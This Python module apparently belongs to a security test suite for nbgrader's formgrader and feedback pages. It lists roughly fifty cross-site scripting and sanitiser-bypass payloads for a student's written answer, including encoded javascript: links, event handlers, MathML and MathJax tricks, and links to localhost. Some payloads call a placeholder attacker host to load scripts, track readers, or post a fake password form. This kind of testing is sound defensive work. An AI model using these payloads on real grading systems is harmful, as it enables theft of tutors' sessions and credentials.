"""Script in formgrader and in the feedback page, from the text of a written answer."""

from __future__ import annotations

from hostile.attack import answer_attack
from hostile.submission import HIT

EVIL = "//attacker.example"

TEXTS = {
    "script-element": ("Run script by a script element.", f"<script>{HIT}</script>"),
    "script-from-elsewhere": ("Load script from the attacker.", f"<script src={EVIL}/x.js></script>"),
    "image-with-a-handler": ("Run script when an image fails.", f'<img src=x onerror="{HIT}">'),
    "unfinished-image": (
        "Have the browser finish a tag that the sanitiser did not see.",
        f'<img src=x onerror="{HIT}"',
    ),
    "svg-with-a-handler": ("Run script when a drawing loads.", f'<svg onload="{HIT}"><animate onbegin="{HIT}"></svg>'),
    "script-in-svg": ("Run script inside a drawing.", f"<svg><script>{HIT}</script></svg>"),
    "details-that-open": ("Run script by elements that need no click.", f'<details open ontoggle="{HIT}">x</details>'),
    "video-with-a-handler": ("Run script by a film without a source.", f'<video><source onerror="{HIT}"></video>'),
    "field-with-the-focus": ("Run script by a field that takes the focus.", f'<input autofocus onfocus="{HIT}">'),
    "javascript-link": ("Run script when the tutor clicks.", f"[look](javascript:{HIT.replace(' ', '')})"),
    "javascript-link-in-disguise": (
        "Hide the scheme of a link from the sanitiser by case, entities, tabs and spaces.",
        (
            "[a](JaVaScRiPt:hit) [b](&#106;avascript:hit) [c](java&Tab;script:hit) [d](&#x6A;avascript&colon;hit) "
            "[e]( javascript:hit ) [f](<java\tscript:hit>) [g](\u0001javascript:hit) <javascript:hit>"
        ),
    ),
    "javascript-by-reference": ("Hide a link's scheme in a reference.", f"[look][x]\n\n[x]: javascript:{HIT}"),
    "data-link": (
        "Run script from a page inside a link.",
        "[look](data:text/html;base64,PHNjcmlwdD5oaXQ8L3NjcmlwdD4=)",
    ),
    "links-with-other-schemes": (
        "Reach programs and files of the tutor by links.",
        "[a](vbscript:hit) [b](file:///etc/passwd) [c](ms-word:ofe|u|x) [d](blob:x) [e](view-source:x) [f](ftp://x.example)",
    ),
    "relative-links-with-a-scheme": (
        "Lead to a page of the tutor's own server by an address that a browser reads as relative.",
        (
            "[a](http:/formgrader?path=submitted/eve) [b](http:../../?path=submitted/eve) [c](https:formgrader) "
            "[d](HTTP:\\\\formgrader) [e](http:&#47;formgrader) [f](ht&Tab;tp:/formgrader) [g](<http: //x>) [h](http:)"
        ),
    ),
    "links-to-another-host-in-disguise": (
        "Have a browser read another host out of an address than a reader does.",
        (
            "[a](https:///evil.example) [b](https:/\\\\evil.example) [c](https:\\\\\\\\evil.example) "
            "[d](https://college.example@evil.example) [e](https://college.example\\\\@evil.example) "
            "[f](https&colon;//evil.example&bsol;x) [g](//evil.example)"
        ),
    ),
    "links-to-the-tutors-own-machine": (
        "Use a whole address that leads to the tutor's own server.",
        (
            "[a](http://localhost:8888/lab) [b](http://127.0.0.1/x) [c](http://2130706433/) [d](http://[::1]/) "
            "[e](http://0x7f.1/) [f](http://hub/user/tutor/) <http://localhost/lab> <http://127.0.0.1>"
        ),
    ),
    "whole-links-by-reference-and-entity": (
        "Have an address pass one way that does not pass another.",
        "[a][x] [x] <http:/formgrader>\n\n[x]: http&#58;/formgrader 'title'",
    ),
    "title-of-a-link": (
        "Say something else than the address, or keep an attribute that another reader changes.",
        '[marks](https://e.example "x $y$ onmouseover=hit") [a]: https://e.example "\'><b>"',
    ),
    "link-to-another-host-without-scheme": ("Leave the course by a link that looks relative.", f"[look]({EVIL}/login)"),
    "link-with-a-handler": (
        "Put a handler into the title of a link.",
        f"[x](https://e.example \"a' onmouseover='{HIT}\")",
    ),
    "link-that-breaks-out": (
        "Break out of a link's address.",
        f'[x](https://e.example/"onmouseover="{HIT}) <https://e/">',
    ),
    "tracking-picture": (
        "Learn when and where the tutor reads.",
        f"![x](https:{EVIL}/pixel.png) ![x]({EVIL}/pixel.gif)",
    ),
    "picture-inside-the-text": (
        "Show a drawing with script from the text itself.",
        "![x](data:image/svg+xml,<svg/onload=hit>)",
    ),
    "frame": (
        "Show another page in the tutor's.",
        f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>{HIT}</script>'>",
    ),
    "object-and-embed": ("Load a plug-in.", f"<object data={EVIL}></object><embed src='javascript:{HIT}'>"),
    "form": (
        "Ask the tutor for a password.",
        f"<form action={EVIL}><input name=password><button formaction={EVIL}>Log in",
    ),
    "style-element": (
        "Hide the page, or read it by style sheets.",
        f"<style>@import '{EVIL}';body{{display:none}}</style>",
    ),
    "style-attribute": ("Lay a link over the whole page.", f'<a href={EVIL} style="position:fixed;inset:0">x</a>'),
    "refresh-and-base": (
        "Send the tutor elsewhere.",
        f"<meta http-equiv=refresh content='0;url={EVIL}'><base href={EVIL}>",
    ),
    "link-element": ("Load a style sheet from the attacker.", f"<link rel=stylesheet href={EVIL}/x.css>"),
    "mathml": (
        "Use the places where readers of markup differ.",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={HIT}&gt;">',
    ),
    "noscript": ("Use another place where they differ.", f'<noscript><p title="</noscript><img src=x onerror={HIT}>">'),
    "template-element": (
        "Hide markup from the sanitiser in a template.",
        f"<template><script>{HIT}</script></template>",
    ),
    "split-tags": (
        "Leave a tag when the sanitiser takes another out.",
        f"<scr<script>ipt>{HIT}</scr</script>ipt><<script>{HIT}",
    ),
    "nul-in-a-tag": (
        "Break up a tag by characters that browsers skip.",
        f"<scr\u0000ipt>{HIT}</script><img/\u000csrc=x onerror={HIT}>",
    ),
    "closing-tags": (
        "Break out of the page's own elements.",
        f"--></textarea></script></style></title></div></main><script>{HIT}</script>",
    ),
    "closing-comment": (
        "Break out of a comment.",
        f"<!-- a --!><img src=x onerror={HIT}> <!--><script>{HIT}</script>-->",
    ),
    "markup-in-code": (
        "Have code read as markup the second time.",
        f"`<img src=x onerror={HIT}>`\n\n```\n<script>{HIT}</script>\n```",
    ),
    "markup-in-the-name-of-a-language": (
        "Put markup into a fence's language.",
        f'```x"onmouseover="{HIT}"><script>\na\n```',
    ),
    "markup-in-a-table": (
        "Have a table's cells read as markup.",
        f"| a | b |\n|---|---|\n| <script>{HIT}</script> | <td onload={HIT}> |",
    ),
    "markup-in-mathematics": (
        "Have mathematics passed on as it stands.",
        (
            f"$<img src=x onerror={HIT}>$ $$<script>{HIT}</script>$$ \\\\(<img src=x onerror={HIT}>\\\\)\n\n"
            f"\\begin{{equation}}<img src=x onerror={HIT}>\\end{{equation}}"
        ),
    ),
    "mathematics-put-back": (
        "Have JupyterLab take text for a formula, and put it back into an attribute after its own cleaning.",
        (
            '[a](https://e.example/$x) and " onmouseover="hit" $ [b](https://e.example/$$y) onfocus=hit $$ @@0@@ @@1@@ '
            "\\\\(<b onclick=hit>\\\\) &#36;x&dollar; \\begin{x} &bsol;begin{equation}x&bsol;end{equation} `$` ![$](https://e/$)"
        ),
    ),
    "control-characters-by-entity": (
        "Bring in by entity what is taken out of the text.",
        (
            "a&#0;&#1;&#8;&#27;[31m&#127;&#133;&#x2028;&#x2029;&#xD800;&#xE000;img src=x onerror=hit>"
            "&#xE001;0&#xE001;&NewLine;- x&Tab;x"
        ),
    ),
    "mathematics-with-links": (
        "Make links and styles by commands of MathJax.",
        r"$\href{javascript:window.hit=1}{x}$ $\require{html}\style{position:fixed}{x}$ $\unicode[' onload='hit]{120}$",
    ),
    "diagram": (
        "Run script by a diagram's click.",
        f'```mermaid\ngraph TD\nA["<img src=x onerror={HIT}>"]\nclick A "javascript:{HIT}"\n```',
    ),
    "entities": (
        "Have entities decoded twice.",
        f"&lt;script&gt;{HIT}&lt;/script&gt; &amp;lt;img src=x onerror={HIT}&amp;gt; &#60;b&#62;",
    ),
    "other-alphabets": (
        "Have the page read in another encoding.",
        "+ADw-script+AD4-hit+ADw-/script+AD4- \uff1cscript\uff1ehit\uff1c/script\uff1e \u2039b\u203a",
    ),
    "heading-that-takes-a-name": (
        "Take the name of an element that the page's own script looks for.",
        '<a id="written-comment" name="base_url">x</a>\n\n# written-comment\n\n# written {#written}',
    ),
    "backslashes": (
        "Undo the escaping of the sanitiser by one's own.",
        f"\\<script>{HIT}\\</script> \\\\<img src=x onerror={HIT}> \\&lt;",
    ),
}

ATTACKS = [answer_attack(name, purpose, text, browser=True) for name, (purpose, text) in TEXTS.items()]
